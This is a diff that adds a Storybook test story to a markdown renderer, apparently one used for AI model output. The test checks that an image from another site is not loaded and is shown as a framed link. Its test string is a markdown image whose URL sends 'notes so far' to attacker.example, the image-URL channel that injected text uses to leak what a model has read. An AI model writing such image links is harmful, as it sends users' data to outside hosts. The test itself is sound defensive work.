@@ -52,6 +52,21 @@ export const Unsafe = meta.story({
   },
 });
 
+/**
+ * An image from another site is not loaded (its URL could carry what the model read): a framed link
+ * a person may open instead. `allowImage` lets chosen sources load.
+ */
+export const ExternalImage = meta.story({
+  args: { text: 'The chart: ![Quarterly revenue](https://attacker.example/chart.png?q=notes+so+far)' },
+  play: async ({ canvasElement, canvas }) => {
+    await expect(canvasElement.querySelector('img')).toBeNull();
+    await expect(canvas.getByRole('link', { name: 'Quarterly revenue' })).toHaveAttribute(
+      'title',
+      'Image from attacker.example, not loaded',
+    );
+  },
+});
+
 /** A highlighter plugged into the code slot (here a toy one that marks keywords). */
 export const Highlighted = meta.story({
   args: {
